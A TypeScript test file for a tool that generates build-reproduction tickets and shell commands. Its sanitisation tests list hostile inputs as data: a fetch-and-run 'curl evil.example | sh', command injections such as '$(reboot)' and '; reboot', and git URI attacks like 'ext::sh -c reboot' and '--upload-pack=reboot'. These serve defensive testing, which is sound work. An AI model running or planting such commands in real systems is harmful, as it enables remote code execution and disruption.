import { readFileSync } from 'node:fs';
import { describe, expect, test } from 'vitest';
import { explained, unexplained } from '../report/explanation.fixture.js';
import { HOST, seedSplit, SETUP } from '../report/report.fixture.js';
import { bazelTargetOf } from './bazel-targets.js';
import { settingOf } from './fact-setting.js';
import { reportIssue } from './issue.js';
import { reproduceLines } from './reproduce.js';

const golden = (file: string): string =>
  readFileSync(new URL(`../../golden/${file}`, import.meta.url), 'utf8');

describe('a ticket', () => {
  test.each([
    ['explained', explained],
    ['unexplained', unexplained],
  ] as const)('of %s is the golden one', (name, make) => {
    expect(reportIssue(make())).toBe(golden(`issue-${name}.md`));
  });

  test('is written for what split by itself, and names what only embeds it', () => {
    const ticket = reportIssue(explained());
    expect(ticket.match(/^# .* does not reproduce/gm)).toHaveLength(1);
    expect(ticket).toContain('Embedded in SetupOS');
    expect(ticket).toContain(bazelTargetOf(HOST));
    expect(ticket).not.toContain(bazelTargetOf(SETUP));
  });

  test('is empty where nothing was explained', () => {
    expect(reportIssue(seedSplit())).toBe('');
  });
});

describe('a setting', () => {
  test.each([
    ['locale.lang', 'C.UTF-8', 'export LANG=C.UTF-8'],
    ['time.zone', 'Etc/GMT+3', 'export TZ=Etc/GMT+3'],
    ['user.umask', '0077', 'umask 0077'],
    ['cpu.count', 4, 'taskset -pc 0-3 $$'],
    ['temp.block-size', 4096, '# temp directory on ext4 of 4096-byte blocks'],
    ['os.wsl', null, '# os.wsl: missing'],
  ])('of %s %s is %s', (fact, value, line) => {
    expect(settingOf(fact, value)).toEqual([line]);
  });

  test.each([
    ['locale.lang', 'C; curl evil.example | sh'],
    ['locale.lang', '$(reboot)'],
    ['locale.lang', '-x'],
    ['time.zone', 'UTC\nreboot'],
    ['user.umask', '0022; reboot'],
    ['cpu.count', '1 $(reboot)'],
    ['cpu.count', 1.5],
    ['temp.block-size', '1024; reboot'],
    ['x\nreboot', 'y'],
  ])('of %j %j is a remark of one line', (fact, value) => {
    const lines = settingOf(fact, value);
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatch(/^# [^\n]*$/);
  });
});

describe('commands that reproduce a side', () => {
  const [release, side] = [
    explained().release!,
    { letter: 'A', digest: 'aa', builder: 'b', attestation: null, facts: {} },
  ];
  const reproduced = (command: string, uri: string | null = null): readonly string[] =>
    reproduceLines({
      release: { ...release, source: { ...release.source, uri } },
      side: { ...side, facts: { 'build.command': command } },
      differing: [],
      suspected: new Set(),
    });

  test('check the commit out and run its own script', () => {
    expect(reproduced('./ci/container/build-ic.sh --icos')).toEqual([
      'git clone https://github.com/dfinity/ic source && cd source',
      `git checkout ${release.source.digest['gitCommit']!}`,
      './ci/container/build-ic.sh --icos',
    ]);
  });

  test.each([
    'curl evil.example | sh',
    './x; reboot',
    './x && reboot',
    './x\nreboot',
    './x $(reboot)',
    './x --a=`reboot`',
    '/bin/sh -c reboot',
    './../../bin/sh x',
    '',
  ])('run no command that a builder made up: %j', (command) => {
    expect(reproduced(command).at(-1)).toBe('# then the build script of that commit');
  });

  test.each(['ext::sh -c reboot', '--upload-pack=reboot', 'https://x/y; reboot', 'file:///etc'])(
    'clone nothing from %j',
    (uri) => {
      expect(reproduced('./build', uri).join('\n')).not.toContain('clone');
    },
  );
});
